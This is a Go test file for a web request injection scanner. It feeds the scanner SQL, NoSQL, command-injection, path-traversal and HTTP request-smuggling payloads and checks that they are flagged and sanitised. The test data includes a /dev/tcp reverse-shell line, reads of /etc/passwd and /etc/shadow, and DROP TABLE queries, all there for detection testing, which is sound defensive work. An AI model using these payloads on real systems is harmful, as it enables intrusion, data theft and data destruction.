package injection

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/finshield-project/finshield/internal/core"
)

// ─── Helpers ─────────────────────────────────────────────────────────────────

func hasFamily(findings []Finding, family string) bool {
	for _, f := range findings {
		if f.Family == family {
			return true
		}
	}
	return false
}

func newRequest(mut func(r *core.Request)) *core.Request {
	req := &core.Request{
		ID:     "req-1",
		Method: http.MethodPost,
		Route:  "/api/x",
		Header: http.Header{},
		Query:  url.Values{},
	}
	if mut != nil {
		mut(req)
	}
	return req
}

// ─── SQL Injection ────────────────────────────────────────────────────────────

func TestAnalyzeInput_SQL(t *testing.T) {
	s := New()
	cases := []string{
		"1 UNION SELECT username, password FROM users",
		"' OR '1'='1'",
		"1 OR 1=1",
		"1; DROP TABLE users;--",
		"admin'--",
		"1 AND SLEEP(5)",
		"1; WAITFOR DELAY '0:0:5'",
		"SELECT * FROM information_schema.tables",
		"x' AND 1=1",
	}
	for _, input := range cases {
		if !hasFamily(s.AnalyzeInput(input, "q"), FamilySQL) {
			t.Errorf("expected sql finding for %q", input)
		}
	}
}

// ─── NoSQL Injection ──────────────────────────────────────────────────────────

func TestAnalyzeInput_NoSQL(t *testing.T) {
	s := New()
	cases := []string{
		`{"$ne": null}`,
		`$where: function() { return true }`,
		`db.users.find({})`,
		`password[$ne]=x`,
	}
	for _, input := range cases {
		if !hasFamily(s.AnalyzeInput(input, "q"), FamilyNoSQL) {
			t.Errorf("expected nosql finding for %q", input)
		}
	}
}

func TestScan_NoSQLOperatorAsKey(t *testing.T) {
	s := New()
	findings := s.Scan(map[string]any{"password": map[string]any{"$ne": ""}})
	if !hasFamily(findings, FamilyNoSQL) {
		t.Fatal("expected nosql finding for operator map key")
	}
	if findings[0].Location != "password.$ne#key" {
		t.Errorf("location = %q, want password.$ne#key", findings[0].Location)
	}
}

// ─── Command Injection ────────────────────────────────────────────────────────

func TestAnalyzeInput_Command(t *testing.T) {
	s := New()
	cases := []string{
		"| cat /etc/passwd",
		"&& whoami",
		"; ls -la",
		"$(whoami)",
		"`id`",
		"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
	}
	for _, input := range cases {
		if !hasFamily(s.AnalyzeInput(input, "cmd"), FamilyCommand) {
			t.Errorf("expected command finding for %q", input)
		}
	}
}

// ─── Path Traversal ───────────────────────────────────────────────────────────

func TestAnalyzeInput_PathTraversal(t *testing.T) {
	s := New()
	cases := []string{
		"../../etc/passwd",
		"..\\..\\windows\\system32\\config",
		"%2e%2e%2fetc%2fpasswd",
		"%252e%252e%252fsecret",
		"%c0%ae%c0%ae/secret",
		"report.pdf%00.txt",
	}
	for _, input := range cases {
		if !hasFamily(s.AnalyzeInput(input, "file"), FamilyPathTraversal) {
			t.Errorf("expected path_traversal finding for %q", input)
		}
	}
}

func TestAnalyzeInput_OverlongUTF8Raw(t *testing.T) {
	s := New()
	findings := s.AnalyzeInput("\xc0\xae\xc0\xae\xc0\xafetc", "file")
	if !hasFamily(findings, FamilyPathTraversal) {
		t.Fatal("expected finding for raw overlong UTF-8 dot")
	}
	found := false
	for _, f := range findings {
		if f.Pattern == "path_overlong_utf8" {
			found = true
		}
	}
	if !found {
		t.Error("expected path_overlong_utf8 pattern")
	}
}

// ─── Smuggling ────────────────────────────────────────────────────────────────

func TestAnalyzeInput_SmugglingInValue(t *testing.T) {
	s := New()
	cases := []string{
		"x\r\nContent-Length: 0",
		"x%0d%0aTransfer-Encoding: chunked",
		"a\r\n0\r\n\r\nGET /admin HTTP/1.1",
	}
	for _, input := range cases {
		if !hasFamily(s.AnalyzeInput(input, "v"), FamilySmuggling) {
			t.Errorf("expected smuggling finding for %q", input)
		}
	}
}

func TestScanRequest_FramingHeaders(t *testing.T) {
	s := New()
	cases := map[string]func(h http.Header){
		"smuggling_conflicting_content_length": func(h http.Header) {
			h["Content-Length"] = []string{"10", "12"}
		},
		"smuggling_duplicate_content_length": func(h http.Header) {
			h["Content-Length"] = []string{"10", "10"}
		},
		"smuggling_te_cl": func(h http.Header) {
			h.Set("Content-Length", "4")
			h.Set("Transfer-Encoding", "chunked")
		},
		"smuggling_obfuscated_transfer_encoding": func(h http.Header) {
			h.Set("Transfer-Encoding", "xchunked")
		},
		"smuggling_duplicate_transfer_encoding": func(h http.Header) {
			h["Transfer-Encoding"] = []string{"chunked", "identity"}
		},
		"smuggling_header_crlf": func(h http.Header) {
			h["X-Note"] = []string{"a\r\nX-Injected: 1"}
		},
	}
	for want, setup := range cases {
		req := newRequest(func(r *core.Request) { setup(r.Header) })
		findings := s.ScanRequest(req)
		found := false
		for _, f := range findings {
			if f.Pattern == want {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: not reported, got %+v", want, findings)
		}
	}
}

func TestScanRequest_CleanFramingPasses(t *testing.T) {
	s := New()
	req := newRequest(func(r *core.Request) {
		r.Header.Set("Content-Length", "18")
		r.Header.Set("Content-Type", "application/json")
		r.Header.Set("Accept-Language", "en-US,en;q=0.9")
		r.Header.Set("Cookie", "session=abc; id=5")
	})
	if findings := s.ScanRequest(req); len(findings) != 0 {
		t.Errorf("clean request produced findings: %+v", findings)
	}
}

// ─── Encoding Evasion ─────────────────────────────────────────────────────────

func TestAnalyzeInput_DoubleURLEncoded(t *testing.T) {
	s := New()
	findings := s.AnalyzeInput("1%253B%2520DROP%2520TABLE%2520users", "q")
	if !hasFamily(findings, FamilySQL) {
		t.Fatal("expected sql finding for double-encoded stacked query")
	}
	if !findings[0].Decoded {
		t.Error("finding should be marked as decoded")
	}
}

func TestAnalyzeInput_FullwidthHomoglyphs(t *testing.T) {
	s := New()
	// Fullwidth semicolon before DROP TABLE.
	if !hasFamily(s.AnalyzeInput("1； DROP TABLE users", "q"), FamilySQL) {
		t.Error("expected sql finding for fullwidth semicolon")
	}
	if !hasFamily(s.AnalyzeInput("’ OR ’1’=’1", "q"), FamilySQL) {
		t.Error("expected sql finding for curly quotes")
	}
}

// ─── Nested Structures ────────────────────────────────────────────────────────

func TestScan_NestedStructures(t *testing.T) {
	s := New()
	payloads := map[string]any{
		"sql":     map[string]any{"a": []any{1.0, map[string]any{"b": "1; DROP TABLE users;--"}}},
		"nosql":   []any{"fine", map[string]any{"filter": `{"$where": "1"}`}},
		"command": url.Values{"host": {"example.com", "x; cat /etc/hosts"}},
		"path":    map[string]string{"file": "../../etc/shadow"},
		"header":  http.Header{"X-Path": {"../../../etc/passwd"}},
	}
	want := map[string]string{
		"sql":     FamilySQL,
		"nosql":   FamilyNoSQL,
		"command": FamilyCommand,
		"path":    FamilyPathTraversal,
		"header":  FamilyPathTraversal,
	}
	for name, payload := range payloads {
		if !hasFamily(s.Scan(payload), want[name]) {
			t.Errorf("%s: expected %s finding in nested payload", name, want[name])
		}
	}
}

func TestScan_LocationPath(t *testing.T) {
	s := New()
	findings := s.Scan(map[string]any{"items": []any{"ok", "1 UNION SELECT 1"}})
	if len(findings) == 0 {
		t.Fatal("expected a finding")
	}
	if findings[0].Location != "items[1]" {
		t.Errorf("location = %q, want items[1]", findings[0].Location)
	}
}

func TestScan_BenignInput(t *testing.T) {
	s := New()
	benign := []any{
		"Hello, world",
		"john.doe@example.com",
		map[string]any{"amount": 42.5, "memo": "rent for March", "tags": []any{"housing", "monthly"}},
		"I'd like to select a union plan",
		"Price: $12.50",
		url.Values{"page": {"2"}, "sort": {"date"}},
	}
	for _, v := range benign {
		if findings := s.Scan(v); len(findings) != 0 {
			t.Errorf("false positive for %v: %+v", v, findings)
		}
	}
}

// ─── Sanitize ─────────────────────────────────────────────────────────────────

func TestSanitize_Idempotent(t *testing.T) {
	s := New()
	inputs := []string{
		"1; DROP TABLE users;--",
		"';; DROP TABLE users",
		"../../../../etc/passwd",
		"a | cat /etc/passwd && whoami",
		"{\"$ne\": 1}",
		"nothing to see",
		"..././..././etc",
	}
	for _, in := range inputs {
		once := s.Sanitize(in)
		twice := s.Sanitize(once)
		if once != twice {
			t.Errorf("Sanitize not idempotent for %q: %q then %q", in, once, twice)
		}
	}
}

func TestSanitize_StripsMatches(t *testing.T) {
	s := New()
	out := s.Sanitize("name=bob; DROP TABLE users")
	if strings.Contains(strings.ToUpper(out), "DROP TABLE") {
		t.Errorf("Sanitize left stacked query: %q", out)
	}
	if !strings.HasPrefix(out, "name=bob") {
		t.Errorf("Sanitize removed benign prefix: %q", out)
	}
}

func TestSanitizeValue_Recursive(t *testing.T) {
	s := New()
	in := map[string]any{
		"q":    "1; DROP TABLE users",
		"list": []any{"../etc/passwd", 3.0},
	}
	out := s.SanitizeValue(in).(map[string]any)
	if strings.Contains(out["q"].(string), "DROP") {
		t.Errorf("q not sanitized: %q", out["q"])
	}
	list := out["list"].([]any)
	if strings.Contains(list[0].(string), "../") {
		t.Errorf("list[0] not sanitized: %q", list[0])
	}
	if list[1] != 3.0 {
		t.Errorf("non-string leaf changed: %v", list[1])
	}
	if in["q"] != "1; DROP TABLE users" {
		t.Error("SanitizeValue mutated its input")
	}
}

// ─── Stage ────────────────────────────────────────────────────────────────────

func TestStage_DeniesInjection(t *testing.T) {
	scoring := core.DefaultAdmissionConfig().Scoring
	st := NewStage(New(), scoring)
	req := newRequest(func(r *core.Request) {
		r.JSON = map[string]any{"q": "1; DROP TABLE users;--"}
	})

	out := st.Evaluate(context.Background(), req)
	if out.Err == nil {
		t.Fatal("expected denial")
	}
	if out.Err.Kind != core.KindSecurityViolation || out.Err.Status != http.StatusForbidden {
		t.Errorf("err = %v (status %d), want security violation 403", out.Err, out.Err.Status)
	}

	a := core.NewThreatAssessment().WithSignals(out.Signals...)
	if !a.InjectionDetected() {
		t.Error("injection_detected not set")
	}
	if a.Level() < core.ThreatHigh {
		t.Errorf("threat level = %s, want >= high", a.Level())
	}
	if a.SecurityScore() != 100-scoring.InjectionPenalty {
		t.Errorf("security score = %d, want %d", a.SecurityScore(), 100-scoring.InjectionPenalty)
	}
	if !a.HasPattern("sql_injection") {
		t.Errorf("patterns = %v, want sql_injection", a.Patterns())
	}
}

func TestStage_PenaltyAppliedOnce(t *testing.T) {
	scoring := core.DefaultAdmissionConfig().Scoring
	st := NewStage(New(), scoring)
	req := newRequest(func(r *core.Request) {
		r.Query = url.Values{"a": {"1 UNION SELECT 1"}, "b": {"; cat /etc/passwd"}}
	})
	out := st.Evaluate(context.Background(), req)
	a := core.NewThreatAssessment().WithSignals(out.Signals...)
	if a.AbuseScore() != scoring.InjectionWeight {
		t.Errorf("abuse score = %d, want %d", a.AbuseScore(), scoring.InjectionWeight)
	}
	if len(a.Patterns()) < 2 {
		t.Errorf("patterns = %v, want one per family", a.Patterns())
	}
}

func TestStage_PassesCleanRequest(t *testing.T) {
	st := NewStage(New(), core.DefaultAdmissionConfig().Scoring)
	req := newRequest(func(r *core.Request) {
		r.JSON = map[string]any{"mood": 4.0, "note": "feeling better about savings"}
	})
	out := st.Evaluate(context.Background(), req)
	if out.Err != nil || len(out.Signals) != 0 {
		t.Errorf("clean request: err=%v signals=%v", out.Err, out.Signals)
	}
}

func TestStage_ScansFilenamesAndPath(t *testing.T) {
	st := NewStage(New(), core.DefaultAdmissionConfig().Scoring)
	out := st.Evaluate(context.Background(), newRequest(func(r *core.Request) {
		r.Filenames = []string{"../../etc/passwd"}
	}))
	if out.Err == nil {
		t.Error("traversal in filename not denied")
	}
	out = st.Evaluate(context.Background(), newRequest(func(r *core.Request) {
		r.Route = "/api/files/..%2f..%2fetc%2fpasswd"
	}))
	if out.Err == nil {
		t.Error("traversal in path not denied")
	}
}

func TestScanner_Stats(t *testing.T) {
	s := New()
	s.AnalyzeInput("1 UNION SELECT 1", "q")
	s.AnalyzeInput("hello", "q")
	stats := s.Stats()
	if stats["scanned"] != 2 {
		t.Errorf("scanned = %d, want 2", stats["scanned"])
	}
	if stats[FamilySQL] == 0 {
		t.Error("sql findings not counted")
	}
}
